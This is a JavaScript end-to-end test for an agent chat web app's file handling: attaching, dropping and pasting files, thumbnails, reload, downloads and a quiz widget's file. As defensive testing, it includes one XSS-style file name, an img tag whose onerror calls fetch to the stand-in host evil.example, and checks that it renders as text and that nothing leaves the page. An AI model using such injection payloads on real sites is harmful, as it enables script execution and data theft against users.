// Files on the page in a real headless Chromium (issue 36): an image and a
// PDF attached with the Attach button, a text file dropped on the chat and
// an image pasted into the message box; thumbnails while they wait and in
// the conversation, the agent's answer naming what it read, still there
// after a reload, a file downloaded from the log, and a tool's file (the
// demo's `save_file`) downloaded from its card. A file name an
// attacker chose stays text, and nothing leaves the page.
//
// Needs AGENTWIRE_BIN (the built binary) and /usr/bin/chromium.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

import { freePort, startServer, tempDir } from '../js/test/support/helpers.mjs';
import { lastAgentText, launch, newChat, type } from './support.mjs';

let browser;
let server;
let port;
let dir;

// A quiz whose question shows a worksheet (a file of the agents folder).
const QUIZ = `id: worksheet-quiz
name: Worksheet quiz
agent_starts_first: true
model:
  provider: scripted
  script: {rules: [{reply: "done"}]}
template:
  items:
    - id: sum
      contents:
        - widget_type: multiple_choice
          stem: "What does the worksheet add up to?"
          options: ["4", "5"]
          correct_answer: "4"
          file: files/worksheet.txt
`;

before(async () => {
  port = await freePort();
  dir = tempDir();
  mkdirSync(join(dir, 'agents', 'files'), { recursive: true });
  writeFileSync(join(dir, 'agents', 'quiz.yaml'), QUIZ);
  writeFileSync(join(dir, 'agents', 'files', 'worksheet.txt'), '2 + 2 = ?');
  server = await startServer(dir, port);
  browser = await launch();
});

after(async () => {
  await browser?.close();
  server?.kill('SIGKILL');
});

/** A real 2×2 PNG (red, green, blue, white). */
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAFklEQVR4nGP4z8DAwMDAxMDAwMDAAAANHQEDasKb6QAAAABJRU5ErkJggg==',
  'base64',
);
const PDF = Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');

test('attach, drop and paste files; thumbnails, the answer, a reload and a download', async () => {
  const page = await newChat(browser, port, 'files');
  const leaks = [];
  page.on('request', (r) => {
    const url = r.url();
    if (!url.startsWith(`http://127.0.0.1:${port}/`) && !url.startsWith('blob:') && !url.startsWith('data:')) leaks.push(url);
  });
  // The Attach button opens the file chooser: an image and a PDF, one
  // named as an attacker would.
  const evil = '<img src=x onerror="fetch(`https://evil.example/`)">.pdf';
  const [chooser] = await Promise.all([page.waitForEvent('filechooser'), page.click('#attach')]);
  await chooser.setFiles([
    { name: 'cat.png', mimeType: 'image/png', buffer: PNG },
    { name: evil, mimeType: 'application/pdf', buffer: PDF },
  ]);
  await page.locator('#pending li').nth(1).waitFor();
  // The image waits as a thumbnail, drawn.
  const waiting = page.locator('#pending img.thumb');
  await waiting.waitFor();
  assert.ok(await waiting.evaluate((img) => img.complete && img.naturalWidth === 2));

  // A text file dropped on the chat.
  const drop = await page.evaluateHandle(() => {
    const dt = new DataTransfer();
    dt.items.add(new File(['tide at 6:40'], 'notes.txt', { type: 'text/plain' }));
    return dt;
  });
  await page.dispatchEvent('#log', 'drop', { dataTransfer: drop });
  await page.locator('#pending li', { hasText: 'notes.txt' }).waitFor();
  // An image pasted into the message box.
  await page.locator('#text').evaluate((box, b64) => {
    const bytes = Uint8Array.from(atob(b64), (c) => c.charCodeAt(0));
    const dt = new DataTransfer();
    dt.items.add(new File([bytes], 'pasted.png', { type: 'image/png' }));
    box.dispatchEvent(new ClipboardEvent('paste', { clipboardData: dt, bubbles: true, cancelable: true }));
  }, PNG.toString('base64'));
  await page.locator('#pending li', { hasText: 'pasted.png' }).waitFor();
  // One removed before sending.
  await page.locator('#pending li', { hasText: 'pasted.png' }).locator('button').click();
  assert.equal(await page.locator('#pending li').count(), 3);
  await page.shot('1-pending');

  await type(page.locator('#text'), 'What are these?');
  await page.click('#send');
  const answer = await lastAgentText(page, 'notes.txt');
  assert.equal(await page.locator('#pending li').count(), 0, 'sent');
  // In the conversation: the image as a thumbnail, each file a download,
  // under the name the server kept (its quotes and slashes replaced).
  const sent = page.locator('#log li.user').last();
  await sent.locator('img.thumb').waitFor();
  await page.waitForFunction(() => document.querySelector('#log li.user img.thumb')?.naturalWidth === 2);
  const names = await sent.locator('a.download').allTextContents();
  assert.equal(names.length, 3);
  assert.deepEqual([names[0], names[2]], ['cat.png', 'notes.txt']);
  const kept = names[1];
  assert.ok(kept.startsWith('<img src=x onerror=') && kept.endsWith('.pdf') && !/["/]/.test(kept), kept);
  // (The answer is drawn as markdown: its line break and the name's
  // backticks are formatting, not text.)
  assert.ok(answer.startsWith(`You said: What are these?`), answer);
  assert.ok(answer.includes(`You attached: cat.png (image/png, ${PNG.length} bytes), <img src=x onerror=`), answer);
  assert.ok(answer.endsWith(`.pdf (application/pdf, ${PDF.length} bytes), notes.txt (text/plain, 12 characters)`), answer);
  assert.equal(await page.locator('#log img:not(.thumb)').count(), 0, 'a name is text');
  await page.shot('2-sent');

  // A reload replays the log: the same files, drawn again.
  const chatId = await page.locator('#chats li.current').getAttribute('data-id');
  await page.reload();
  await page.locator('#conn[data-state="open"]').waitFor();
  await page.locator(`#chats li[data-id="${chatId}"]`).click();
  await page.waitForFunction(() => document.querySelector('#log li.user img.thumb')?.naturalWidth === 2);
  const again = page.locator('#log li.user').last();
  assert.deepEqual(await again.locator('a.download').allTextContents(), names);

  // A download: the PDF's bytes, under its name.
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    again.locator('a.download').nth(1).click(),
  ]);
  // (Chromium replaces what a file system cannot hold in a name.)
  assert.equal(download.suggestedFilename(), kept.replace(/[<>:]/g, '_'));
  const saved = join(dir, 'saved.pdf');
  await download.saveAs(saved);
  assert.deepEqual(readFileSync(saved), PDF);
  await page.shot('3-reloaded');

  // A tool's file: the agent saves a note; its card links it for download.
  await type(page.locator('#text'), 'file: # Tides, high at 6:40');
  await page.click('#send');
  await lastAgentText(page, 'Saved');
  const link = page.locator('#log .card a.download', { hasText: 'note.md' });
  await link.waitFor();
  const [note] = await Promise.all([page.waitForEvent('download'), link.click()]);
  assert.equal(note.suggestedFilename(), 'note.md');
  const notePath = join(dir, 'note.md');
  await note.saveAs(notePath);
  assert.equal(readFileSync(notePath, 'utf8'), '# Tides, high at 6:40');
  await page.shot('4-tool-file');
  assert.deepEqual(leaks, [], 'nothing left the page');
  await page.close();
});

test("a template's widget shows its file; the user downloads it and answers", async () => {
  const page = await newChat(browser, port, 'files-widget', 'worksheet-quiz');
  const widget = page.locator('.card.widget', { hasText: 'What does the worksheet add up to?' });
  const link = widget.locator('a.download', { hasText: 'worksheet.txt' });
  await link.waitFor();
  const [download] = await Promise.all([page.waitForEvent('download'), link.click()]);
  assert.equal(download.suggestedFilename(), 'worksheet.txt');
  const saved = join(dir, 'worksheet-saved.txt');
  await download.saveAs(saved);
  assert.equal(readFileSync(saved, 'utf8'), '2 + 2 = ?');
  await widget.locator('button', { hasText: '4' }).click();
  await widget.locator('.note', { hasText: 'answered' }).or(page.locator('#log li.run-end')).first().waitFor();
  await page.shot('widget');
  await page.close();
});
